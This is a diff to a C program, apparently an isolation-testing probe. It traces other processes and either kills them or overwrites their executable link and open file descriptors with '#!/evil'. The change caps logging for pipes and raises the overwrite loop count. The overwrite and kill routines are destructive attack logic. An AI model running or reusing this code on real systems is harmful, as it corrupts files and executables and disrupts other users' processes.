@@ -17,6 +17,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -72,7 +73,11 @@ static void overwrite(int pid, const char *name)
 	if (file < 0)
 		return;
 	ssize_t count = write(file, "#!/evil\n", 8);
-	if (count > 0)
+	static int pipes;
+	struct stat status;
+	/* Pipes may be written to, and are many: what is printed has to fit into one. */
+	int pipe = !fstat(file, &status) && S_ISFIFO(status.st_mode);
+	if (count > 0 && (!pipe || pipes++ < 50))
 		print_link(pid, name), printf("wrote %s\n", name);
 	close(file);
 }
@@ -121,7 +126,7 @@ int main(int count, char **words)
 			else if (!strcmp(what, "kill"))
 				kill(pid, SIGKILL), printf("killed\n");
 			else
-				for (int i = 0; i < 20; i++) /* what it prints has to fit into its pipe */
+				for (int i = 0; i < 100; i++)
 					overwrite(pid, "exe"), each_descriptor(pid, overwrite);
 			next = pid + 1;
 		}
